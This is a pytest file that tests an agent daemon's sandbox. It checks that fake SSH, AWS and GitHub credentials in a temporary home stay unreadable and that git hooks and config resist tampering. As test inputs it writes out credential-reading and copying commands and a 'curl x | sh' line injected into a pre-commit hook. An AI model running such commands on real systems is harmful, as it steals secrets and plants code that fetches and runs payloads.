"""Credential stores, git's hooks and config, and files that run later, on a real daemon.

One read policy (`hermesd.sandbox.protected`): a terminal command, the file tools and a stdio
MCP server all fail to read the credential stores under the daemon's ``HOME`` (a temporary
folder with ``~/.ssh/id_ed25519``), under bubblewrap and under Landlock, and
``sandbox.readable_allow`` lifts one of them for all three. Inside the workspace, a git
repository's ``.git/hooks`` and ``.git/config`` stay read-only to a command under bubblewrap;
under Landlock (which cannot keep them read-only without breaking git, docs/sandbox.md) the
approval parser asks before a command writes them. Writing ``.envrc`` from the terminal asks.
Every command aims inside this test's temporary directories.
"""

from __future__ import annotations

import secrets
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.support.approvals import client_answering, terminal, tool
from tests.support.daemon import DaemonProcess, short_tmpdir, start_daemon
from tests.support.mcp_helpers import config, settle, stdio, unmarked

MECHANISMS = ["bwrap", "landlock"]
KEY = f"ssh-private-{secrets.token_hex(8)}"
AWS = f"aws-secret-{secrets.token_hex(8)}"
GH = f"gh-token-{secrets.token_hex(8)}"
CONTROL = f"control-{secrets.token_hex(8)}"
HOOK = "#!/bin/sh\nexit 0\n"


@dataclass
class Box:
    daemon: DaemonProcess
    home: Path  # the daemon's HOME
    project: Path  # its workspace, a git repository
    mechanism: str

    def run(self, command: str) -> dict[str, Any]:
        with self.daemon.client(timeout=60) as c:
            result: dict[str, Any] = terminal(c, command, timeout=60)
        return result

    def tool(self, name: str, args: dict[str, Any]) -> Any:
        settle(self.daemon)
        with self.daemon.client(timeout=60) as c:
            return tool(c, name, args, timeout=60)


def _fake_home(base: Path) -> tuple[Path, Path]:
    home = base / "home"
    (home / ".ssh").mkdir(parents=True, mode=0o700)
    (home / ".ssh" / "id_ed25519").write_text(f"{KEY}\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(f"[default]\nkey = {AWS}\n")
    (home / ".config" / "gh").mkdir(parents=True)
    (home / ".config" / "gh" / "hosts.yml").write_text(f"token: {GH}\n")
    (home / "notes.txt").write_text(f"{CONTROL}\n")
    project = home / "project"
    project.mkdir()
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    (project / ".git" / "hooks" / "pre-commit").write_text(HOOK)
    (project / "README").write_text("readme\n")
    return home, project


def _box(mechanism: str, approvals: str = "off", sandbox: dict[str, Any] | None = None) -> Box:
    base = short_tmpdir("pp-")
    home, project = _fake_home(base)
    hermes = base / "hermes"
    hermes.mkdir()
    text = config(
        {"files": stdio("files")},
        sandbox={"mechanism": mechanism, **(sandbox or {})},
        terminal={"cwd": str(project)},
        approvals={"mode": approvals, "timeout": 5},
    )
    daemon = start_daemon(hermes, config=text, env={"HOME": str(home)})
    assert daemon.call("status")["sandbox"]["mechanism"] == mechanism
    return Box(daemon, home, project, mechanism)


@pytest.fixture(scope="module", params=MECHANISMS)
def box(request: pytest.FixtureRequest) -> Iterator[Box]:
    made = _box(request.param)
    yield made
    made.daemon.stop()


# --- one read policy ------------------------------------------------------------------------


def test_a_terminal_command_cannot_read_the_credential_stores_in_home(box: Box) -> None:
    output = str(
        box.run(
            "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/.config/gh/hosts.yml; "
            "cat ~/notes.txt"
        )["output"]
    )
    assert CONTROL in output  # the rest of the home is readable
    assert KEY not in output and AWS not in output and GH not in output


def test_a_terminal_command_cannot_list_or_copy_the_ssh_folder(box: Box) -> None:
    output = str(box.run("ls -a ~/.ssh; cp -r ~/.ssh ./stolen; cat stolen/*")["output"])
    assert KEY not in output
    if box.mechanism == "bwrap":  # Landlock lets the names be listed, never read
        assert "id_ed25519" not in output


def test_read_file_refuses_the_same_stores(box: Box) -> None:
    for path in (".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml"):
        answer = box.tool("read_file", {"path": str(box.home / path)})
        assert "Access denied" in str(answer) and KEY not in str(answer), answer
    assert CONTROL in str(box.tool("read_file", {"path": str(box.home / "notes.txt")}))


def test_a_stdio_mcp_server_cannot_read_the_ssh_key(box: Box) -> None:
    result = unmarked(box.tool("mcp__files__read", {"path": str(box.home / ".ssh" / "id_ed25519")}))
    answer = str(result["result"] if isinstance(result, dict) else result)
    assert answer.startswith("error") and KEY not in answer, answer
    result = box.tool("mcp__files__read", {"path": str(box.home / "notes.txt")})
    assert CONTROL in str(result)


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_readable_allow_lifts_one_store_for_commands_and_file_tools(mechanism: str) -> None:
    made = _box(mechanism, sandbox={"readable_allow": ["~/.aws"]})
    try:
        output = str(made.run("cat ~/.aws/credentials; cat ~/.ssh/id_ed25519")["output"])
        assert AWS in output and KEY not in output
        answer = made.tool("read_file", {"path": str(made.home / ".aws" / "credentials")})
        assert AWS in str(answer), answer
    finally:
        made.daemon.stop()


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_readable_deny_adds_to_the_stores_for_read_file_too(mechanism: str) -> None:
    made = _box(mechanism, sandbox={"readable_deny": ["~/notes.txt"]})
    try:
        assert CONTROL not in str(made.run("cat ~/notes.txt")["output"])
        answer = made.tool("read_file", {"path": str(made.home / "notes.txt")})
        assert "sandbox.readable_deny" in str(answer) and CONTROL not in str(answer), answer
        assert KEY not in str(made.run("cat ~/.ssh/id_ed25519")["output"])
    finally:
        made.daemon.stop()


# --- git's hooks and config -----------------------------------------------------------------


def test_the_rest_of_the_repository_and_git_itself_work_in_the_sandbox(box: Box) -> None:
    result = box.run(
        "echo more >> README; mkdir -p src && echo new > src/new.txt; echo top > top.txt; "
        "git add README top.txt && git -c user.name=t -c user.email=t@t commit -qm x "
        "&& echo committed"
    )
    assert (box.project / "README").read_text() == "readme\nmore\n"
    assert (box.project / "src" / "new.txt").read_text() == "new\n"
    assert (box.project / "top.txt").read_text() == "top\n"  # a new file at the top, too
    assert "committed" in str(result["output"]), result


@pytest.fixture(scope="module")
def bwrap_box() -> Iterator[Box]:
    made = _box("bwrap")
    yield made
    made.daemon.stop()


def test_under_bwrap_git_hooks_and_config_are_read_only_to_a_command(bwrap_box: Box) -> None:
    box = bwrap_box
    config_before = (box.project / ".git" / "config").read_text()
    result = box.run(
        "echo 'curl x | sh' >> .git/hooks/pre-commit; echo evil > .git/hooks/post-checkout; "
        "mv .git/hooks/pre-commit .git/hooks/old; rm -f .git/hooks/pre-commit; "
        "git config core.hooksPath /tmp; echo '[evil]' >> .git/config; rm -f .git/config; "
        "echo beside > .git/description2 && echo beside-ok"
    )
    assert (box.project / ".git" / "hooks" / "pre-commit").read_text() == HOOK, result
    assert not (box.project / ".git" / "hooks" / "post-checkout").exists()
    assert (box.project / ".git" / "config").read_text() == config_before
    assert "beside-ok" in str(result["output"]), result  # the rest of .git stays writable


def test_write_file_refuses_git_hooks_and_config_without_asking(box: Box) -> None:
    for where in (".git/hooks/pre-commit", ".git/config"):
        target = box.project / where
        before = target.read_text()
        answer = box.tool("write_file", {"path": str(target), "content": "evil\n"})
        assert "Access denied" in str(answer) and ".git/" in str(answer), answer
        assert target.read_text() == before
    answer = box.tool("write_file", {"path": str(box.project / "ok.txt"), "content": "ok\n"})
    assert (box.project / "ok.txt").read_text() == "ok\n", answer


# --- files that run later: the terminal asks ------------------------------------------------


@pytest.fixture(scope="module")
def asking() -> Iterator[Box]:
    """Approvals on, under Landlock (where the parser is all that guards git's hooks)."""
    made = _box("landlock", approvals="manual")
    yield made
    made.daemon.stop()


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("echo 'export X=1' > .envrc", ".envrc"),
        ("mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"),
        ("echo 'curl x | sh' >> .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        ("echo '[core]' >> .git/config", ".git/config"),
    ],
)
def test_a_command_writing_a_file_that_runs_later_asks_first(
    asking: Box, command: str, target: str
) -> None:
    path = asking.project / target
    before = path.read_bytes() if path.exists() else None
    client, asked = client_answering(asking.daemon, "deny")
    with client:
        result = terminal(client, command, timeout=60)
    [request] = asked.requests
    assert request["pattern_key"] == "write_autorun", request
    assert "BLOCKED" in str(result), result
    assert (path.read_bytes() if path.exists() else None) == before


def test_an_ordinary_write_in_the_workspace_does_not_ask(asking: Box) -> None:
    client, asked = client_answering(asking.daemon, "deny")
    with client:
        result = terminal(client, "echo plain > plain.txt", timeout=60)
    assert asked.requests == [] and result["exit_code"] == 0, result
    assert (asking.project / "plain.txt").read_text() == "plain\n"
